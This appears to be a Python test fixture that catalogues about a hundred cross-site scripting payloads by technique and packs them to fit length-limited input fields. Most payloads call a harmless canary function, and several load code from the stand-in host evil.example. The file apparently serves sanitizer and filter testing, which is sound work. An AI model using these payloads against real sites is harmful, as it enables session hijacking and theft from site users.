"""A hundred ways to slip a script into a page, by technique. Each calls `canary(N)` with its own number if it runs,
or asks a host called evil.example. `§` stands for the number."""

TAGS = [
    "<script>canary(§)</script>",
    "<SCRIPT >canary(§)</SCRIPT >",
    "<script/x>canary(§)</script>",
    "<scr<script>ipt>canary(§)</scr</script>ipt>",
    "<script>canary`§`</script>",
    "</title><script>canary(§)</script>",
    "</textarea><script>canary(§)</script>",
    "</script><script>canary(§)</script>",
    "<!--><script>canary(§)</script>-->",
    "<script src=//evil.example/§></script>",
    "<script src=data:,canary(§)></script>",
    '<iframe srcdoc="<script>parent.canary(§)</script>">',
    "<iframe src=javascript:parent.canary(§)>",
    "<embed src=//evil.example/§>",
    "<base href=//evil.example/§/><img src=x>",
    "<link rel=stylesheet href=//evil.example/§>",
    "<style>@import'//evil.example/§'</style>",
    "<form action=javascript:canary(§)><button>x",
]
EVENTS = [
    "<img src=x onerror=canary(§)>",
    "<IMG SRC=x ONERROR='canary(§)'>",
    "<img/src=x/onerror=canary(§)>",
    "<img src=x onerror\n=canary(§)>",
    "<img srcset=x onerror=canary(§)>",
    "<body onload=canary(§)>",
    "<body onpageshow=canary(§)>",
    "<details open ontoggle=canary(§)>",
    "<video src=x onerror=canary(§)></video>",
    "<video><source onerror=canary(§)></video>",
    "<audio src onerror=canary(§)></audio>",
    "<input autofocus onfocus=canary(§)>",
    "<select autofocus onfocus=canary(§)></select>",
    "<a id=x tabindex=1 autofocus onfocus=canary(§)>x",
    "<p tabindex=0 onmouseover=canary(§)>x",
    "<object onerror=canary(§) data=x></object>",
    "<iframe onload=canary(§)></iframe>",
    "<link rel=stylesheet href=x onerror=canary(§)>",
    "<script src=x onerror=canary(§)></script>",
    "<style>@keyframes x{}</style><b style=animation:x onanimationend=canary(§)>",
]
SVG = [
    "<svg onload=canary(§)>",
    "<svg/onload=canary(§)>",
    "<svg><script>canary(§)</script></svg>",
    "<svg><script href=data:,canary(§) /></svg>",
    "<svg><a href=javascript:canary(§)><text y=9>x",
    "<svg><animate onbegin=canary(§) attributeName=x dur=1s>",
    "<svg><set onbegin=canary(§) attributename=x to=y>",
    "<svg><image href=x onerror=canary(§)>",
    "<svg><foreignObject><img src=x onerror=canary(§)>",
]
ATTRIBUTES = [
    '" onfocus=canary(§) autofocus x="',
    "' onfocus=canary(§) autofocus x='",
    '"><img src=x onerror=canary(§)>',
    "'><img src=x onerror=canary(§)>",
    '" onmouseover="canary(§)',
    "` onerror=canary(§) x=`",
    "x onload=canary(§)",
    "--><img src=x onerror=canary(§)>",
    "]]><img src=x onerror=canary(§)>",
    "</style><img src=x onerror=canary(§)>",
    '" style="background:url(//evil.example/§)',
    '"></option></select><img src=x onerror=canary(§)>',
]
MARKDOWN = [
    "[x](javascript:canary(§))",
    "[x](JaVaScRiPt:canary(§))",
    "[x](javascript&colon;canary(§))",
    "[x](&#106;avascript:canary(§))",
    "[x](<java\tscript:canary(§)>)",
    "[x](data:text/html,<script>canary(§)</script>)",
    "[x](vbscript:canary(§))",
    "![x](javascript:canary(§))",
    '![x" onerror="canary(§)](x)',
    '![x](x "\\" onerror=canary(§) \\"")',
    "![x](//evil.example/§)",
    "<javascript:canary(§)>",
    "[y§]: javascript:canary(§)\n\n[y§]",
    '[x](https://a.example/"onfocus="canary(§))',
    "`</code><img src=x onerror=canary(§)>`",
    "[^§]: <img src=x onerror=canary(§)>\n\nx[^§]",
]
ENCODED = [
    "&lt;script&gt;canary(§)&lt;/script&gt;",
    "&#60;img src=x onerror=canary(§)&#62;",
    "&#x3c;script&#x3e;canary(§)&#x3c;/script&#x3e;",
    "%3Cscript%3Ecanary(§)%3C/script%3E",
    "\\u003cscript\\u003ecanary(§)\\u003c/script\\u003e",
    "+ADw-script+AD4-canary(§)+ADw-/script+AD4-",
]
TEMPLATES = [
    "{{constructor.constructor('canary(§)')()}}",
    "{% autoescape off %}<b onclick=canary(§)>",
    "${canary(§)}<%= canary(§) %>#{canary(§)}",
    '#eval("canary(§)") #import "canary§"',
]
IN_SCRIPTS = [
    "</script><svg/onload=canary(§)>",
    '";canary(§);//',
    "'-canary(§)-'",
    "<!--<script>canary(§)//</script>",
    "\u2028canary(§)//",
]
MUTATION = [
    '<svg></p><style><a id="</style><img src=x onerror=canary(§)>">',
    '<noscript><p title="</noscript><img src=x onerror=canary(§)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(§)>",
    "<listing>&lt;img src=x onerror=canary(§)&gt;</listing>",
]
UNICODE = [
    "\uff1cscript\uff1ecanary(§)\uff1c/script\uff1e",
    "<\u017fcript>canary(§)</\u017fcript>",
    "<\u0131frame onload=canary(§)>",
    "<img src=x on\u200berror=canary(§)>",
]
POLYGLOTS = [
    "'\"></title></style></textarea></script--><svg/onload=canary(§)>",
    "javascript:\"/*'/*`/*--></script><svg onload=canary(§)//",
]
TECHNIQUES = [
    *(TAGS, EVENTS, SVG, ATTRIBUTES, MARKDOWN, ENCODED),
    *(TEMPLATES, IN_SCRIPTS, MUTATION, UNICODE, POLYGLOTS),
]
PAYLOADS = [
    payload.replace("§", str(number))
    for number, payload in enumerate((payload for technique in TECHNIQUES for payload in technique), start=1)
]
# For fields of twenty letters, in which a number must have place as well.
SHORT = [
    "<script src=//e>",
    "<img src=//e.ee>",
    "<svg onload=c()>",
    "<b onclick=c()>",
    '"onfocus=c() x="',
    "{{7*7}}<script>",
]


def packed(longest: int) -> list[str]:
    """All payloads that fit into `longest` characters, as few texts as hold them; in long ones a paragraph each."""
    fitting = [payload for payload in PAYLOADS if len(payload) <= longest] or SHORT
    between = "\n\n" if longest > 1000 else " "
    most = longest if longest <= 1000 else 700
    texts = [fitting[0]]
    for payload in fitting[1:]:
        if len(texts[-1]) + len(between) + len(payload) <= most:
            texts[-1] += between + payload
        else:
            texts.append(payload)
    return texts
